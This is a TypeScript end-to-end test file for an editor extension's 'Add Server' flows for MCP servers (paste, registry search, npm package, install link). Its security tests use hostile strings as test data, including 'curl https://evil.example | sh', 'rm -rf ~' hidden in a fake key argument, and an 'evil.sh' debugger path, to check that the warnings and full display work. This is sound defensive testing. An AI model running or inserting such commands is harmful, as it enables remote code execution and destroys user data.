// Ways to a new server besides a command and a URL: pasted, searched in a registry, as a package, by a link.
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { SdkHttpServer } from '../../servers/sdkHttp.ts';
import { typedSecrets } from '../../support/issuedSecrets.ts';
import { published } from '../support/servers.ts';
import { openWorkbench } from '../support/workbench.ts';
import type { Workbench } from '../support/workbench.ts';

/** Put together here, so that no text of this file looks like a token to scanners. */
const secret = `ghp_${'c3D4'.repeat(9)}`;

describe('Adding a server', () => {
  const remote = new SdkHttpServer('legacy');
  const searches: string[] = [];
  let registry: Server;
  let workbench: Workbench;

  before(async () => {
    const url = await remote.start();
    registry = createServer((request, response) => {
      searches.push(request.url ?? '');
      response.end(JSON.stringify(request.url?.startsWith('/v0/') ? listing(url) : npmPackage));
    });
    await new Promise<void>((resolve) => registry.listen(0, '127.0.0.1', resolve));
    const { port }: AddressInfo = JSON.parse(JSON.stringify(registry.address()));
    const base = `http://127.0.0.1:${port}`;
    workbench = await openWorkbench({
      userSettings: { 'mcpHost.registryUrl': base, 'mcpHost.npmRegistryUrl': base },
    });
    await workbench.tree.show();
  });

  after(async () => {
    await workbench.close();
    registry.closeAllConnections();
    registry.close();
    await remote.close();
  });

  it('takes what was pasted, shows it whole, tries it, and keeps its secret out of the settings', async () => {
    const { quickInput } = workbench;
    const { command, args } = published('server-everything', 'stdio');
    await choose('Paste');
    await quickInput.fill('{ "mcpServers": {');
    await quickInput.expectMessage(/is not JSON/);
    typedSecrets.add(secret);
    const pasted = `claude mcp add everything --env GITHUB_TOKEN=${secret} -- ${command} ${args.join(' ')}`;
    await quickInput.fill(pasted);
    await quickInput.expectMessage(/install link/);
    await workbench.screenshot('paste-server');
    await quickInput.accept();
    await targetAndName('everything');
    await quickInput.waitForItems('the secret', (items) => items.includes('env.GITHUB_TOKEN'));
    await quickInput.accept();
    const question = await workbench.dialog.expect('Try the MCP server "everything"');
    assert.match(question.detail, /^Server: everything\nFrom: what was pasted\n/);
    assert.ok(question.detail.includes(command), question.detail);
    assert.ok(question.detail.includes(`GITHUB_TOKEN=${secret}`), 'what was pasted is shown whole');
    assert.deepEqual((await workbench.extension.status()).servers, []);
    await workbench.screenshot('paste-server-question');
    await workbench.dialog.answer('Try It');
    await workbench.dialog.expect('"everything" works');
    await workbench.screenshot('paste-server-found');
    assert.deepEqual((await workbench.extension.status()).servers, []);
    await workbench.dialog.answer('Add');
    await workbench.extension.waitForServer('everything', 'ready');
    assert.doesNotMatch(await workbench.settings.userText(), new RegExp(secret));
  });

  it('searches a registry, and adds a remote of what it finds', async () => {
    const { quickInput } = workbench;
    await choose('Search');
    await quickInput.fill('weath');
    await quickInput.waitForItems('the hits', (items) => items.includes('Weather'));
    assert.ok(
      searches.some((url) => url.startsWith('/v0/servers?search=weath&')),
      searches.join(),
    );
    await workbench.screenshot('registry-hits');
    await quickInput.pick('Weather');
    const ways = await quickInput.waitForItems('the ways', (items) => items.length === 4);
    assert.ok(ways.includes('npm @someone/weather'), ways.join());
    await workbench.screenshot('registry-ways');
    await quickInput.pick('Streamable HTTP');
    await targetAndName('weather');
    const question = await workbench.dialog.expect('Try the MCP server "weather"');
    assert.match(question.detail, /\nFrom: io\.github\.someone\/weather \(127\.0\.0\.1:\d+\)\n/);
    await workbench.screenshot('registry-question');
    await workbench.dialog.answer('Try It');
    await workbench.dialog.expect('"weather" works');
    await workbench.dialog.answer('Add');
    await workbench.extension.waitForServer('weather', 'ready');
  });

  it('looks up an npm package, and shows what would be run', async () => {
    const { quickInput } = workbench;
    await choose('npm Package');
    await quickInput.fill('--evil');
    await quickInput.expectMessage(/name of a package/);
    await quickInput.fill('@someone/weather');
    await quickInput.accept();
    await quickInput.expectItems([
      'npx -y @someone/weather@1.2.3',
      'npx -y @someone/weather@latest',
    ]);
    await workbench.screenshot('npm-versions');
    await quickInput.cancel();
    await quickInput.waitForEnd();
  });

  it('HOST-05 (2026): by a link starts and saves nothing before everything was shown', async () => {
    const { command, args } = published('server-everything', 'stdio');
    const before = await workbench.settings.userText();
    const count = (await workbench.extension.status()).servers.length;
    for (const answer of ['Cancel', 'Add Without Trying']) {
      await openLink({ name: 'linked', command, args });
      await targetAndName('linked');
      const question = await workbench.dialog.expect('Try the MCP server "linked"');
      assert.match(question.detail, /^Server: linked\nFrom: a link\n/);
      assert.ok(question.detail.includes(command), question.detail);
      await workbench.screenshot('link-question');
      assert.equal((await workbench.extension.status()).servers.length, count);
      assert.equal(await workbench.settings.userText(), before);
      await workbench.dialog.answer(answer);
    }
    await workbench.extension.waitForServer('linked', 'stopped');
    assert.match(await workbench.settings.userText(), /"linked": \{[^}]*"startup": "manual"/);
  });

  it('SEC-01: a script is shown whole, whatever it begins with, and stays in the settings as it was', async () => {
    const script = 'TOKEN=x; curl https://evil.example | sh';
    const key = '-----BEGIN PRIVATE KEY-----\necho hidden; rm -rf ~';
    await openLink({ name: 'scripted', command: 'sh', args: ['-c', script, '--key', key] });
    await targetAndName('scripted');
    const { detail } = await workbench.dialog.expect('Try the MCP server "scripted"');
    await workbench.screenshot('link-script');
    assert.match(detail, /⚠ Runs what it downloads: TOKEN=x; curl https:\/\/evil\.example \| sh/);
    assert.ok(detail.includes(`• ${script}\n`), detail);
    assert.ok(detail.includes('• -----BEGIN PRIVATE KEY-----\\u{a}echo hidden; rm -rf ~'), detail);
    await workbench.dialog.answer('Add Without Trying');
    await workbench.extension.waitForServer('scripted', 'stopped');
    assert.ok((await workbench.settings.userText()).includes(JSON.stringify(script)));
  });

  it('SEC-01: of two servers everything is shown, what a debugger runs in their place included', async () => {
    const before = await workbench.settings.userText();
    const program = path.join(workbench.folder, 'evil.sh');
    const dev = { debug: { type: 'debugpy', debugpyPath: program } };
    const long = `--say=${'a long argument that nobody may cut '.repeat(20)}end`;
    await openLink({
      mcpServers: {
        one: { command: 'python3', args: ['one.py', long] },
        two: { command: 'python3', args: ['two.py'], dev },
      },
    });
    const { quickInput } = workbench;
    await quickInput.waitForItems(
      'both',
      (items) => items.includes('one') && items.includes('two'),
    );
    await quickInput.pick('one');
    await quickInput.pick('two');
    await quickInput.accept();
    await quickInput.pick('For me');
    const { detail } = await workbench.dialog.expect('Import 2 MCP servers?');
    await workbench.screenshot('link-two-servers');
    for (const text of [`Command: ${program}`, long, '--listen', 'Server: one', 'Server: two']) {
      assert.ok(detail.includes(text), `${text}\n\nis not in\n\n${detail}`);
    }
    await workbench.dialog.answer('Cancel');
    assert.equal(await workbench.settings.userText(), before);
  });

  it('by a link without a server says what is wrong with it', async () => {
    await openLink({ hello: 'world' });
    assert.match(await workbench.notifications.waitFor('install link'), /it has no server/);
  });

  async function choose(way: string): Promise<void> {
    await workbench.runCommand('MCP Host: Add Server…');
    await workbench.quickInput.pick(way);
  }

  async function targetAndName(name: string): Promise<void> {
    const { quickInput } = workbench;
    await quickInput.pick('For me');
    await quickInput.expectValue(name);
    await quickInput.accept();
  }

  async function openLink(server: object): Promise<void> {
    await workbench.runCommand('MCP Host Demo: Open an Install Link');
    await workbench.quickInput.fill(JSON.stringify(server));
    await workbench.quickInput.accept();
  }
});

const npmPackage = { version: '1.2.3', description: 'Tells the weather', bin: { weather: 'x.js' } };

function listing(url: string): unknown {
  return {
    servers: [
      {
        server: {
          name: 'io.github.someone/weather',
          title: 'Weather',
          description: 'Tells the weather of today',
          version: '1.2.3',
          repository: { url: 'https://git.example/someone/weather', source: 'github' },
          packages: [
            {
              registryType: 'npm',
              identifier: '@someone/weather',
              version: '1.2.3',
              transport: { type: 'stdio' },
              environmentVariables: [{ name: 'WEATHER_KEY', isRequired: true, isSecret: true }],
            },
            { registryType: 'mcpb', identifier: 'https://git.example/weather.mcpb' },
          ],
          remotes: [{ type: 'streamable-http', url }],
        },
        _meta: { 'io.modelcontextprotocol.registry/official': { status: 'active' } },
      },
    ],
    metadata: { count: 1 },
  };
}
